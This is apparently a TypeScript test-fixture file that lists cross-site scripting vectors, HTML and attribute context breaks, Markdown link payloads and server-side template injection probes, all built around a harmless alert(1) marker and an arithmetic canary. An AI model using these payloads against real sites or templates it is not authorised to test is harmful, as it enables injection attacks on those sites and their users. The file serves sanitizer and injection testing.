/**
 * Payloads: what people type who want a script to run in somebody else's page, and what a
 * template would evaluate. Each is a vector in a place that it breaks out of first.
 */

/** Hooked in the browser: whoever calls it has run. */
const RUN = "alert(1)";

const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" java\tscript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const BREAKS = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>"];

const IN_ATTRIBUTES = [
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\` onerror=${RUN} \``,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u2028${RUN}//`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JAVASCRIPT:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](javascript:${RUN})`,
  `![x](x "onerror=${RUN}")`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n[x]`,
  `[x](vbscript:msgbox(1))`,
  `\`\`\`"><img src=x onerror=${RUN}>\n\`\`\``,
];

/** Where one of these is evaluated, the product stands there. */
export const EVALUATED = String(1337 * 7331);
export const TEMPLATES = [
  "{{1337*7331}}",
  "${1337*7331}",
  "#{1337*7331}",
  "<%= 1337*7331 %>",
  "{%print(1337*7331)%}",
  "{{constructor.constructor('return 1337*7331')()}}",
  "{{__proto__.polluted='1337'}}",
  "{{customer.constructor.prototype.polluted=1}}",
  "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
  "[[${1337*7331}]]",
];

export const PAYLOADS: readonly string[] = [
  ...VECTORS.flatMap((vector) => BREAKS.map((before) => before + vector)),
  ...IN_ATTRIBUTES,
  ...MARKDOWN,
];
